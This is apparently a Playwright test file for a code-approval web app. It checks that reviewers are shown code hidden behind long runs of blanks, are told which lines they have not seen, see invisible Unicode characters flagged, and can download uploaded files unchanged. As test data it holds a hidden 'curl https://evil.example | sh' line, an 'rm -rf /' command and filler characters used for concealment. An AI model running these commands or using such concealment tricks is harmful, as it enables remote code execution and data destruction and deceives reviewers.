"""R23: a reviewer has seen what they approve, or is told what they have not seen; a file is preserved."""

from pathlib import Path

import pytest
from playwright.async_api import Page, expect

from tests.browser.people import DESK, PHONE, Visitors

LOOKED_AT = ".code.must .line, .piece"
# In one step, because a live page may reload between two. What was never drawn was never on the screen.
SHOW = """([which, n]) => {
    document.querySelectorAll(which)[n].scrollIntoView({ block: "center" });
    return new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(done)));
}"""
TRICK = "#!/bin/sh\necho ok" + " " * 220 + "; curl https://evil.example | sh\n"


async def submitted(visitors: Visitors, resource: str, payload: object) -> str:
    request = (await visitors.gateway.submit(resource, payload=payload))["request"]
    await visitors.gateway.show(request, after=request)
    return request


async def fits(page: Page) -> bool:
    return await page.evaluate("() => document.documentElement.scrollWidth <= innerWidth")


@pytest.mark.parametrize("screen", [DESK, PHONE], ids=["desk", "phone"])
async def test_R23_code_behind_blanks_and_below_the_fold_is_not_overlooked(
    visitors: Visitors, screen: dict[str, object]
) -> None:
    name = f"script/long-{len(screen)}.sh"
    request = await submitted(visitors, name, TRICK + "".join(f"step {n}\n" for n in range(90)) + "x" * 3_000)
    bob = await visitors.signed_in("Bob Ortega", screen)
    await bob.goto(f"/requests/{request}")
    await expect(bob.get_by_text("⟨220 blanks⟩ ; curl https://evil.example | sh")).to_be_visible()
    await expect(bob.locator("#odd")).to_contain_text("1 long run of blanks")
    await expect(bob.locator("#unseen")).to_contain_text("of 93 lines have not been on your screen yet")
    await bob.locator("#rest-head").focus()
    await bob.keyboard.press("Enter")
    await expect(bob.get_by_text("step 89")).to_be_visible()
    assert await fits(bob)
    for n in range(await bob.locator(LOOKED_AT).count()):
        await bob.evaluate(SHOW, [LOOKED_AT, n])
    await expect(bob.locator("#unseen")).to_have_text("Every line has been on your screen.")


async def test_R23_decision_counts_the_lines_not_on_the_page_and_they_can_be_read(
    visitors: Visitors,
) -> None:
    request = await submitted(visitors, "script/endless.sh", "echo\n" * 9_999 + "rm -rf /")
    bob = await visitors.signed_in("Bob Ortega")
    await bob.goto(f"/requests/{request}")
    await expect(bob.locator("#beyond")).to_contain_text("8,000 more lines are not on this page")
    await expect(bob.locator("#unseen")).to_contain_text("of 10,000 lines have not been on your screen yet")
    full = await bob.request.get(f"/requests/{request}/content")
    assert (await full.text()).endswith("10000  rm -rf /")
    assert full.headers["content-type"] == "text/plain; charset=utf-8"


async def test_R23_invisible_characters_are_shown_as_numbers_with_a_warning(visitors: Visitors) -> None:
    request = (
        await visitors.gateway.submit("script/filler.sh", payload="rm a\u3164", justification="Now\u2800.")
    )["request"]
    await visitors.gateway.show(request, after=request)
    bob = await visitors.signed_in("Bob Ortega")
    await bob.goto(f"/requests/{request}")
    await expect(bob.get_by_text("rm a⟨U+3164⟩")).to_be_visible()
    await expect(bob.get_by_text("Now⟨U+2800⟩.").first).to_be_visible()
    await expect(bob.locator("#hides")).to_be_visible()


@pytest.mark.parametrize(
    "content", [b"#!/bin/sh\r\necho caf\xe9\r\n", b"\xef\xbb\xbfa\r\nb\rc\n", b"\x00\xff" * 50]
)
async def test_file_is_downloaded_unchanged(visitors: Visitors, content: bytes, tmp_path: Path) -> None:
    file = tmp_path / f"taken-{len(content)}.sh"
    file.write_bytes(content)
    alice = await visitors.signed_in("Alice Miller")
    await alice.goto("/requests/new")
    await alice.get_by_label("Resource type").select_option("script")
    await alice.set_input_files("#file", file)
    await expect(alice.locator("#taken")).to_contain_text(f"{len(content)} bytes, SHA-256")
    await alice.get_by_label("Justification").fill("A file.")
    await alice.get_by_role("button", name="Send for approval").click()
    await expect(alice.get_by_text(f"File: {len(content)} bytes, SHA-256")).to_be_visible()
    saved = await alice.request.get(await alice.locator("#save").get_attribute("href") or "")
    assert "attachment" in saved.headers["content-disposition"]
    assert await saved.body() == content


async def test_policy_that_requires_own_signatures_explains_how_to_approve(visitors: Visitors) -> None:
    rule = {"quorum": 1, "groups": ["security"]}
    policy = {"id": "vaults", "name": "Vaults", "resource_type": "vault", "approvals": [rule]}
    change = {"type": "assent.create-policy.v1", "policy": {**policy, "own_signature": True}}
    await visitors.gateway.governed(change)
    request = await visitors.gateway.submit_once_protected("vault/keys")
    await visitors.gateway.show(request, after=request)
    bob = await visitors.signed_in("Bob Ortega")
    await bob.goto(f"/requests/{request}")
    await expect(bob.get_by_role("heading", name="Approve with your own key")).to_be_visible()
    await expect(bob.locator("#own-key")).to_contain_text(f"assent approve {request} --server http://")


async def test_deleting_a_policy_shows_what_happens_to_its_open_requests(visitors: Visitors) -> None:
    request = await submitted(visitors, "script/waits.sh", "echo")
    bob = await visitors.signed_in("Bob Ortega")
    await bob.goto("/policies/delete?id=scripts")
    await expect(bob.locator("#effects")).to_contain_text("can never be approved after this")
    await expect(bob.locator("#effects").get_by_role("link", name=request, exact=True)).to_be_visible()
    await bob.get_by_label("Justification").fill("Not needed.")
    await bob.get_by_role("button", name="Request the deletion").click()
    carol = await visitors.signed_in("Carol Chen")
    await carol.goto(bob.url)
    await expect(carol.locator("#effects")).to_contain_text("can never be approved after this")
